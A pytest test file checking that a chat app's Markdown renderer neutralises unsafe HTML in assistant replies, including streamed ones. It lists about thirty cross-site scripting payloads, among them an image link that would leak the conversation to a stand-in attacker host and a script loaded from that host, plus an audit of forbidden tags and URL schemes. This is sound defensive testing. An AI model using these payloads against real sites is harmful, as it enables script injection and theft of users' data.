"""Assistant replies render as Markdown, and nothing a model writes can run in the page."""

import json
import re
from html.parser import HTMLParser

import pytest
from asgiref.sync import sync_to_async
from hypothesis import given, settings
from hypothesis import strategies as st

from chat.markdown import render
from chat.models import Message
from tests.fakeopenai import Reply
from tests.wsutil import messages_in, receive_until, reply_finished

# Model output that tries to run script, load remote content or restyle the page.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>body { display: none }</style>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="https://ok.example" onclick="alert(1)">click</a>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<details open ontoggle=alert(1)>x</details>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--<script>alert(1)</script>-->",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java&#x09;script:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![leak](https://evil.example/collect?q=the+conversation)",
    '[x](https://ok.example "\\" onmouseover=\\"alert(1)")',
    '```"><script>alert(1)</script>\ncode\n```',
    "```python onload=alert(1)\nprint(1)\n```",
    "`<script>alert(1)</script>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> <script>alert(1)</script>\n> - <iframe src=//evil.example>",
]

FORBIDDEN_TAGS = {
    *("script", "style", "iframe", "frame", "object", "embed", "base", "link", "meta"),
    *("img", "svg", "math", "form", "input", "button", "textarea", "details"),
}
ALLOWED_ATTRIBUTES = {"href", "title", "start", "class", "target", "rel"}
SAFE_SCHEMES = {"http", "https", "mailto"}
# How a browser finds a URL's scheme: tabs and newlines anywhere are dropped first.
SCHEME = re.compile(r"[\x00-\x20]*([a-z][a-z0-9+.-]*):", re.I)


class _Audit(HTMLParser):
    """Lists everything in an HTML fragment that could run script or load content."""

    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ALLOWED_ATTRIBUTES:
                self.problems.append(f"{tag}[{name}]")
            scheme = SCHEME.match(re.sub(r"[\t\n\r]", "", value or ""))
            if name == "href" and scheme and scheme[1].lower() not in SAFE_SCHEMES:
                self.problems.append(f"{tag}[href={value}]")
        if tag == "a" and dict(attrs).get("rel") != "noopener noreferrer nofollow":
            self.problems.append(f"<a> without rel: {attrs}")


# The page's own "replying…" dots, appended to a streaming reply's body.
TYPING_INDICATOR = re.compile(
    r'<span class="typing" role="img" aria-label="[^"]*">(<i></i>)*</span>$'
)


def problems_in(html: str) -> list[str]:
    audit = _Audit()
    audit.feed(html)
    audit.close()
    return audit.problems


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_survives(payload):
    assert problems_in(render(payload)) == []


def test_raw_html_is_shown_as_text():
    assert render("<script>alert(1)</script>") == "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n"


def test_the_audit_catches_what_it_should():
    assert problems_in('<img src=x onerror="alert(1)"><a href="javascript:x">y</a>') == [
        "<img>",
        "img[src]",
        "img[onerror]",
        "a[href=javascript:x]",
        "<a> without rel: [('href', 'javascript:x')]",
    ]


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [*PAYLOADS, "<", ">", "[", "](", ")", "`", "```", "\n", "\n\n", "- ", "1. ", "|", '"']
        )
        | st.text(max_size=8),
        max_size=12,
    ).map("".join)
)
def test_nothing_assembled_from_payload_pieces_survives(text):
    assert problems_in(render(text)) == []


def test_fenced_code_is_highlighted_on_the_server():
    html = render('Try this:\n\n```python\ndef greet(name):\n    return f"hi {name}"\n```')
    assert '<pre class="highlight"><code><span class="k">def</span>' in html
    assert '<span class="nf">greet</span>' in html


def test_code_in_an_unknown_language_is_escaped_not_highlighted():
    html = render("```nosuchlanguage\n<b>bold?</b>\n```")
    assert html == '<pre class="highlight"><code>&lt;b&gt;bold?&lt;/b&gt;\n</code></pre>\n'


def test_an_unclosed_fence_still_renders_while_a_reply_streams():
    assert render("```python\nx = 1").startswith('<pre class="highlight"><code><span class="n">x')


def test_lists_emphasis_and_tables_render():
    html = render("Steps:\n\n- **one**\n- *two*\n\n3. three\n4. four\n\n| a |\n|---|\n| 1 |")
    assert "<ul>\n<li><strong>one</strong></li>\n<li><em>two</em></li>\n</ul>" in html
    assert '<ol start="3">\n<li>three</li>' in html
    assert "<td>1</td>" in html


def test_links_open_in_a_new_tab_without_referrer():
    assert render("[docs](https://example.com/a?b=1)") == (
        '<p><a href="https://example.com/a?b=1" target="_blank" '
        'rel="noopener noreferrer nofollow">docs</a></p>\n'
    )


@pytest.mark.django_db
def test_room_page_renders_assistant_markdown_and_leaves_user_text_alone(
    client, room_factory, message_factory
):
    room = room_factory()
    message_factory(room, "**not bold**\n<b>x</b>")
    message_factory(room, "**bold** <img src=x onerror=alert(1)>", role=Message.Role.ASSISTANT)
    html = client.get(room.get_absolute_url()).content.decode()
    assert "**not bold**<br>&lt;b&gt;x&lt;/b&gt;" in html
    assert "<p><strong>bold</strong> &lt;img src=x onerror=alert(1)&gt;</p>" in html


@pytest.mark.asyncio
@pytest.mark.django_db(transaction=True)
async def test_payloads_streamed_by_the_model_are_harmless_in_every_update(
    room_factory, connect, model
):
    room = await sync_to_async(room_factory)()
    text = "\n\n".join(PAYLOADS)
    model.queue(Reply(text, tokens_per_second=400))
    tab = await connect(f"/ws/chat/{room.pk}/")
    await tab.send_to(text_data=json.dumps({"content": "Show me some HTML", "HEADERS": {}}))
    frames = await receive_until(tab, reply_finished, within=20)

    replies = [m for f in frames for m in messages_in(f) if m.role == "assistant"]
    assert len(replies) > 3
    for reply in replies:
        rendered = TYPING_INDICATOR.sub("", reply.body)
        assert problems_in(rendered) == [], rendered
    assert replies[-1].status == "complete"
    assert "<script>alert(1)</script>" in replies[-1].text, "shown as text, not run"
